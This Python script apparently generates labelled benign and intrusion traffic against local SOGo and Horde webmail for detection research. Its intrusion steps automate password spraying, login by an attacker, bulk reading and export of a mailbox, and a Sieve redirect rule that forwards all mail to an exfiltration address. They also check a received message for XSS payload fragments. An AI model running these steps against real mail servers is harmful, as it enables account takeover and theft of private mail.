#!/usr/bin/env python3
"""Drives SOGo and Horde (lab/up-webmails) through a scenario and writes its ground truth.

    lab/webmails.py sogo-benign|sogo-intrusion|horde-benign|horde-intrusion [--collect DIR]

The same parties, addresses, accounts and ground-truth layout as lab/drive.py
(whose mail and SMTP helpers it reuses); the webmail is SOGo 5.8 on
http://127.0.0.1:8080/SOGo/ or Horde Webmail 5.2 (IMP 6, Ingo 3) on
http://127.0.0.1:8081/horde/, each behind nginx, over the lab's Dovecot and
Postfix. Every step records `detail.webmail`. Python 3 standard library only.
"""

import argparse
import html
import json
import os
import re
import shutil
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
import http.cookiejar

import drive
from drive import ADDRESSES, ATTACKER_BROWSER, CHROME, EXFIL, FIREFOX, PASSWORDS, address, stamp, utc_now

SOGO = "http://127.0.0.1:8080"
# The subject of drive.hostile_mail_arrives's exploit-shaped mail.
HOSTILE_SUBJECT = "Action required: mailbox quota"
HORDE = "http://127.0.0.1:8081"

# The logs a run collects: path in the run folder -> path on the lab machine.
LOGS = {
    "sogo": {
        "nginx/sogo.access.log": "/var/log/nginx/sogo.access.log",
        "nginx/sogo.error.log": "/var/log/nginx/sogo.error.log",
        "sogo/sogo.log": "/var/log/sogo/sogo.log",
        "dovecot.log": "/var/log/dovecot.log",
        "mail.log": "/var/log/mail.log",
    },
    "horde": {
        "nginx/horde.access.log": "/var/log/nginx/horde.access.log",
        "nginx/horde.error.log": "/var/log/nginx/horde.error.log",
        "horde/horde.log": "/var/log/horde/horde.log",
        "php8.2-fpm.log": "/var/log/php8.2-fpm.log",
        "dovecot.log": "/var/log/dovecot.log",
        "mail.log": "/var/log/mail.log",
    },
}


class Web:
    """A browser on one webmail: cookies, its own address and user agent."""

    def __init__(self, base, source, agent):
        self.base = base
        self.source = source
        self.agent = agent
        self.cookies = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(drive._SourceBoundHTTP(source),
                                                  urllib.request.HTTPCookieProcessor(self.cookies))

    def cookie(self, name):
        return next((c.value for c in self.cookies if c.name == name), None)

    def request(self, method, path, body=None, headers=None):
        """`method` `path`; returns (status, final URL, body bytes, headers)."""
        sent = {"User-Agent": self.agent, "Accept-Language": "en-US,en;q=0.7"}
        sent.update(headers or {})
        req = urllib.request.Request(self.base + path, data=body, headers=sent, method=method)
        try:
            with self.opener.open(req, timeout=60) as resp:
                return resp.status, resp.geturl(), resp.read(), resp.headers
        except urllib.error.HTTPError as error:
            return error.code, error.geturl(), error.read(), error.headers


class Sogo(Web):
    """SOGo 5's web UI as its Angular client calls it: JSON bodies, the XSRF-TOKEN cookie echoed."""

    def __init__(self, source, agent):
        super().__init__(SOGO, source, agent)
        self.user = None

    def call(self, method, path, data=None):
        headers = {"Accept": "application/json, text/plain, */*"}
        body = None
        if data is not None:
            body = json.dumps(data).encode()
            headers["Content-Type"] = "application/json;charset=utf-8"
        token = self.cookie("XSRF-TOKEN")
        if token:
            headers["X-XSRF-TOKEN"] = token
        status, _, answer, _ = self.request(method, path, body, headers)
        return status, answer

    def login(self, user, password):
        self.request("GET", "/SOGo/")
        status, answer = self.call("POST", "/SOGo/connect",
                                   {"userName": user, "password": password, "rememberLogin": 0})
        if status == 200:
            self.user = user
        return status == 200, status, answer.decode("utf-8", "replace")[:200]

    def mail(self, rest):
        return f"/SOGo/so/{self.user}/Mail/0/folderINBOX{rest}"

    def message_uids(self):
        status, answer = self.call("POST", self.mail("/view"),
                                   {"sortingAttributes": {"sort": "arrival", "asc": 0}})
        return json.loads(answer).get("uids", []) if status == 200 else []

    def open_message(self, uid):
        """The message as SOGo's reader shows it: (status, its JSON, download URLs of its parts)."""
        status, answer = self.call("GET", self.mail(f"/{uid}/view"))
        text = answer.decode("utf-8", "replace")
        return status, text, sorted(set(re.findall(r'"downloadURL":"([^"]+)"', text)))

    def download(self, url):
        status, _, body, headers = self.request("GET", url)
        return {"url": url, "status": status, "bytes": len(body),
                "disposition": headers.get("Content-Disposition", "")}

    def export_folder(self):
        """The folder menu's "Export": the whole folder as a zip of .eml files."""
        status, _, body, headers = self.request("POST", self.mail("/exportFolder"), b"",
                                                {"X-XSRF-TOKEN": self.cookie("XSRF-TOKEN") or ""})
        return status, body, headers.get("Content-Type", "")

    def save_filter(self, name, actions, rules=None):
        """A Sieve filter through Preferences > Mail > Filters: the preferences as the
        client holds them, with the filter added, saved in one POST."""
        prefs = f"/SOGo/so/{self.user}/Preferences"
        _, defaults = self.call("GET", f"{prefs}/jsonDefaults")
        _, settings = self.call("GET", f"{prefs}/jsonSettings")
        defaults = json.loads(defaults)
        rule = {"name": name, "active": 1, "actions": actions,
                "match": "all" if rules else "allmessages"}
        if rules:
            rule["rules"] = rules
        defaults["SOGoSieveFilters"] = defaults.get("SOGoSieveFilters", []) + [rule]
        status, answer = self.call("POST", f"{prefs}/save", {"defaults": defaults,
                                                             "settings": json.loads(settings)})
        return status, status == 200

    def logout(self):
        return self.request("GET", f"/SOGo/so/{self.user}/logoff")[0]


class Horde(Web):
    """Horde's login form (login.php), the "basic" view chosen at login as its form
    offers; IMP's basic mailbox and message pages, its download service, and Ingo's
    forward page. Debian 12's IMP and Horde_Form need lab/up-webmails' PHP 8.2
    workarounds (lab/README.md) past the login."""

    INBOX = "SU5CT1g"  # IMP 6 names a mailbox in base64url: "INBOX"

    def __init__(self, source, agent):
        super().__init__(HORDE, source, agent)

    def login(self, user, password):
        self.request("GET", "/horde/login.php")
        form = {"app": "", "login_post": "1", "url": "", "anchor_string": "", "horde_user": user,
                "horde_pass": password, "horde_select_view": "basic", "new_lang": "en_US",
                "login_button": "Log in"}
        status, url, body, _ = self.request("POST", "/horde/login.php", urllib.parse.urlencode(form).encode(),
                                            {"Content-Type": "application/x-www-form-urlencoded"})
        shown = re.search(r'class="notice[^"]*"[^>]*>\s*([^<]+)', body.decode("utf-8", "replace"))
        # A login goes on to the portal (which Debian's Horde fails to draw: HTTP 500).
        return "login.php" not in url, status, shown and shown.group(1).strip()

    def message_uids(self):
        """The INBOX's IMAP uids, from the message links of IMP's basic mailbox page."""
        _, _, body, _ = self.request("GET", f"/horde/imp/basic.php?page=mailbox&mailbox={self.INBOX}")
        page = html.unescape(body.decode("utf-8", "replace"))
        return sorted({int(uid) for uid in re.findall(r"[?&]buid=(\d+)&[^\"]*page=message", page)})

    def open_message(self, uid):
        """IMP's basic message page: (status, the page, its attachments' download URLs)."""
        status, _, body, _ = self.request("GET", f"/horde/imp/basic.php?page=message&mailbox={self.INBOX}&buid={uid}")
        page = body.decode("utf-8", "replace")
        links = re.findall(r'href="(/horde/services/download/\?[^"]*actionID=download_attach[^"]*)"', page)
        return status, page, sorted({html.unescape(link) for link in links})

    def download(self, url):
        status, _, body, headers = self.request("GET", url)
        return {"url": url, "status": status, "bytes": len(body),
                "disposition": headers.get("Content-Disposition", "")}

    def save_filter(self, name, addresses):
        """Ingo's Forward page (basic view), "Save and Enable": a redirect of every
        message to `addresses`, a copy kept; Ingo writes it to ManageSieve."""
        path = "/horde/ingo/basic.php?page=forward"
        _, _, body, _ = self.request("GET", path)
        form = {}
        for field, value in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"',
                                       body.decode("utf-8", "replace")):
            form.setdefault(field, html.unescape(value))
        form.update(keep_copy="on", addresses=addresses, submitbutton="Save and Enable")
        status, _, body, _ = self.request("POST", path, urllib.parse.urlencode(form).encode(),
                                          {"Content-Type": "application/x-www-form-urlencoded"})
        text = body.decode("utf-8", "replace")
        return status, status == 200 and "Enabled" in text and "error activating" not in text

    def logout(self):
        """The logout link of Horde's menu: login.php with the session's logout token."""
        status, _, body, _ = self.request("GET", "/horde/services/prefs.php")
        token = re.search(r"horde_logout_token=([A-Za-z0-9_-]+)", body.decode("utf-8", "replace"))
        query = urllib.parse.urlencode({"horde_logout_token": token.group(1) if token else "",
                                        "logout_reason": 4})
        return self.request("GET", f"/horde/login.php?{query}")[0]


# ----------------------------------------------------------------------------- steps (any webmail)
def browser(run, source, agent):
    return run.product(source, agent)


def alice_mistypes_password(run):
    run.alice = browser(run, ADDRESSES["alice_office"], FIREFOX)
    with run.truth.step("webmail_login_typo", "alice", address("alice"), run.alice.source, "http", False,
                        webmail=run.name) as step:
        ok, status, shown = run.alice.login(address("alice"), "Alice-Lab-2O24")
        step["outcome"] = "success" if ok else "failed"
        step["detail"].update(http_status=status, message=shown)
    time.sleep(2)


def alice_logs_in(run):
    with run.truth.step("webmail_login", "alice", address("alice"), run.alice.source, "http", False,
                        webmail=run.name) as step:
        ok, status, shown = run.alice.login(address("alice"), PASSWORDS["alice"])
        step["outcome"] = "success" if ok else "failed"
        step["detail"].update(http_status=status, message=shown)
    if not ok:
        raise RuntimeError(f"alice cannot log in to {run.name}: is it up (lab/up-webmails)?")


def alice_reads_mail(run):
    with run.truth.step("webmail_read", "alice", address("alice"), run.alice.source, "http", False,
                        webmail=run.name) as step:
        uids = run.alice.message_uids()
        downloads = []
        for uid in uids[:2]:
            _, _, parts = run.alice.open_message(uid)
            downloads += [run.alice.download(part) for part in parts[:1]]
        step["outcome"] = "ok"
        step["detail"].update(listed_uids=uids, opened_uids=uids[:2], downloads=downloads)


def alice_logs_out(run):
    with run.truth.step("webmail_logout", "alice", address("alice"), run.alice.source, "http", False,
                        webmail=run.name) as step:
        step["detail"]["http_status"] = run.alice.logout()
        step["outcome"] = "ok"


def carol_files_newsletters(run):
    """A legitimate filter through the webmail's own filter UI: newsletters into Junk."""
    carol = browser(run, ADDRESSES["carol_office"], CHROME)
    with run.truth.step("webmail_sieve_fileinto", "carol", address("carol"), carol.source, "http", False,
                        webmail=run.name, rule="fileinto Junk if subject contains newsletter") as step:
        ok, _, _ = carol.login(address("carol"), PASSWORDS["carol"])
        status, saved = carol.save_filter("newsletters", *run.fileinto_junk)
        carol.logout()
        step["outcome"] = "saved" if saved else "failed"
        step["detail"].update(login_ok=ok, http_status=status)


def victim_opens_it(run):
    alice = browser(run, ADDRESSES["alice_office"], FIREFOX)
    with run.truth.step("victim_opens_html_payload", "alice", address("alice"), alice.source, "http", False,
                        webmail=run.name) as step:
        ok, _, _ = alice.login(address("alice"), PASSWORDS["alice"])
        # Newest first until the exploit mail: Dovecot numbers messages in the
        # order LMTP delivers them, which is not always the order they were sent.
        uid, status, shown, opened = None, None, "", []
        for candidate in sorted(alice.message_uids(), reverse=True):
            status, shown, _ = alice.open_message(candidate)
            opened.append(candidate)
            if HOSTILE_SUBJECT in shown:
                uid = candidate
                break
        alice.logout()
        step["outcome"] = "opened" if ok and uid is not None and status == 200 else "failed"
        step["detail"].update(uid=uid, mailbox="INBOX", http_status=status, opened_uids=opened,
                              payload_fragments_in_rendered_message={k: k in shown for k in
                                                                     ("<svg", "animate", "javascript:",
                                                                      "lab-marker")})


def webmail_password_attack(run):
    """A spray over likely names, then guesses against alice, a fresh session each."""
    guesses = run.spray + [(address("alice"), p) for p in drive.WRONG_PASSWORDS[:run.guesses]]
    with run.truth.step("webmail_bruteforce", "attacker", address("alice"), ADDRESSES["attacker_web"], "http",
                        True, webmail=run.name, attempts=len(guesses),
                        spray_accounts=[u for u, _ in drive.SPRAY]) as step:
        attempts = []
        for user, password in guesses:
            ok, status, shown = browser(run, ADDRESSES["attacker_web"], ATTACKER_BROWSER).login(user, password)
            attempts.append({"ts": stamp(utc_now()), "user": user, "ok": ok, "http_status": status,
                             "message": shown})
            time.sleep(0.3)
        step["outcome"] = "unexpected_success" if any(a["ok"] for a in attempts) else "all_failed"
        step["detail"]["attempts"] = attempts


def attacker_logs_in(run):
    with run.truth.step("webmail_login_success_new_ip", "attacker", address("alice"), ADDRESSES["attacker_web"],
                        "http", True, webmail=run.name) as step:
        run.attacker = browser(run, ADDRESSES["attacker_web"], ATTACKER_BROWSER)
        ok, status, shown = run.attacker.login(address("alice"), PASSWORDS["alice"])
        step["outcome"] = "success" if ok else "failed"
        step["detail"].update(http_status=status, message=shown)
    if not ok:
        raise RuntimeError(f"the attacker could not log in to {run.name}")


def attacker_reads_everything(run):
    with run.truth.step("webmail_mailbox_browse_and_attachment_download", "attacker", address("alice"),
                        ADDRESSES["attacker_web"], "http", True, webmail=run.name) as step:
        uids = run.attacker.message_uids()
        downloads = []
        for uid in uids:
            _, _, parts = run.attacker.open_message(uid)
            downloads += [run.attacker.download(part) for part in parts]
        step["outcome"] = "ok"
        step["detail"].update(listed_uids=uids, downloads=downloads)


def attacker_exports_mailbox(run):
    with run.truth.step("webmail_mailbox_export", "attacker", address("alice"), ADDRESSES["attacker_web"],
                        "http", True, webmail=run.name, mailbox="INBOX") as step:
        status, body, mime = run.attacker.export_folder()
        step["outcome"] = "ok" if status == 200 and len(body) > 0 else "failed"
        step["detail"].update(http_status=status, bytes=len(body), content_type=mime)


def attacker_sets_redirect(run):
    with run.truth.step("webmail_sieve_redirect", "attacker", address("alice"), ADDRESSES["attacker_web"], "http",
                        True, webmail=run.name, target=EXFIL, rule="redirect (all messages)",
                        via=run.filter_ui) as step:
        status, saved = run.attacker.save_filter("sync", *run.redirect_all)
        step["outcome"] = "saved" if saved else "failed"
        step["detail"].update(http_status=status, rule_name="sync")
    run.attacker.logout()


def ordinary_mail_triggers_redirect(run):
    """Carol's everyday mail to alice: alice's redirect rule sends a copy to the sink."""
    time.sleep(1)
    before = set(os.listdir(drive.SINK)) if os.path.isdir(drive.SINK) else set()
    with run.truth.step("trigger_redirect", "carol", address("alice"), ADDRESSES["carol_office"],
                        "smtp-submission", False,
                        note=f"benign mail; alice's redirect rule forwards a copy to {EXFIL}") as step:
        mail = drive.message("Carol <carol@lab.test>", "alice@lab.test", "Board minutes", "Minutes attached.\n",
                             attachments=[("board-minutes.pdf", "application/pdf", drive.pdf("minutes", 8))])
        drive.smtp(ADDRESSES["carol_office"], 587, address("carol"), [address("alice")], mail,
                   "carol-pc.lab.test", (address("carol"), PASSWORDS["carol"]))
        time.sleep(3)  # LMTP delivery, Sieve, then Postfix to the sink
        after = set(os.listdir(drive.SINK)) if os.path.isdir(drive.SINK) else set()
        step["outcome"] = "sent"
        step["detail"]["new_sink_files"] = sorted(after - before)


HORDE_BENIGN = [drive.bob_sends_report, alice_mistypes_password, alice_logs_in, alice_reads_mail,
                alice_logs_out]
# As SOGo's, without the folder export (IMP's basic view offers none) and with
# Ingo's forward page for the redirect.
HORDE_INTRUSION = [drive.bob_sends_report, drive.carol_sends_payroll, drive.hostile_mail_arrives,
                   victim_opens_it, webmail_password_attack, attacker_logs_in, attacker_reads_everything,
                   attacker_sets_redirect, ordinary_mail_triggers_redirect]

BENIGN = [drive.bob_sends_report, drive.inbound_newsletter, alice_mistypes_password, alice_logs_in,
          alice_reads_mail, alice_logs_out, carol_files_newsletters]
INTRUSION = [drive.bob_sends_report, drive.carol_sends_payroll, drive.hostile_mail_arrives, victim_opens_it, webmail_password_attack, attacker_logs_in,
             attacker_reads_everything, attacker_exports_mailbox, attacker_sets_redirect,
             ordinary_mail_triggers_redirect]

PRODUCTS = {
    "sogo": {
        "product": Sogo,
        "filter_ui": "sogo preferences, mail filters",
        "redirect_all": ([{"method": "redirect", "argument": EXFIL}],),
        "fileinto_junk": ([{"method": "fileinto", "argument": "Junk"}],
                          [{"field": "subject", "operator": "contains", "value": "newsletter"}]),
        "benign": BENIGN,
        "intrusion": INTRUSION,
        "spray": drive.SPRAY,
        "guesses": 8,
    },
    # Horde checks passwords with an IMAP login from 127.0.0.1, which Dovecot's
    # auth penalty slows up to 15 s a try after failures: five guesses, no spray.
    "horde": {"product": Horde, "benign": HORDE_BENIGN, "intrusion": HORDE_INTRUSION, "spray": [],
              "guesses": 5, "filter_ui": "ingo forward page", "redirect_all": (EXFIL,)},
}


class Run:
    """What the steps of one scenario share."""

    def __init__(self, name, truth):
        self.name = name
        self.truth = truth
        self.args = argparse.Namespace(bruteforce=8, no_wait=True)
        for key, value in PRODUCTS[name].items():
            setattr(self, key, value)
        self.alice = None
        self.attacker = None


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("scenario", choices=[f"{p}-{s}" for p in PRODUCTS for s in ("benign", "intrusion")])
    parser.add_argument("--collect", metavar="DIR", help="copy the logs, sink and ground truth into DIR")
    args = parser.parse_args()
    name, kind = args.scenario.split("-")
    truth = drive.GroundTruth(args.scenario)
    run = Run(name, truth)
    began = time.monotonic()
    error = None
    try:
        for step in PRODUCTS[name][kind]:
            step(run)
    except Exception as failure:  # the ground truth keeps what did run
        error = f"{type(failure).__name__}: {failure}"
        print(f"lab/webmails.py: {error}", file=sys.stderr)
    document = truth.document(error, time.monotonic() - began)
    document.update(webmail=name, logs=LOGS[name])
    os.makedirs(drive.GROUND_TRUTH_DIR, exist_ok=True)
    path = os.path.join(drive.GROUND_TRUTH_DIR, f"ground-truth-{truth.run_id}.json")
    with open(path, "w") as out:
        json.dump(document, out, indent=2)
    print(f"ground truth: {path} ({len(truth.steps)} steps, {time.monotonic() - began:.0f} s)")
    if args.collect:
        drive.LOGS.clear()
        drive.LOGS.update(LOGS[name])
        drive.collect(args.collect, path)
        print(f"collected in {args.collect}")
    return 1 if error else 0


if __name__ == "__main__":
    sys.exit(main())
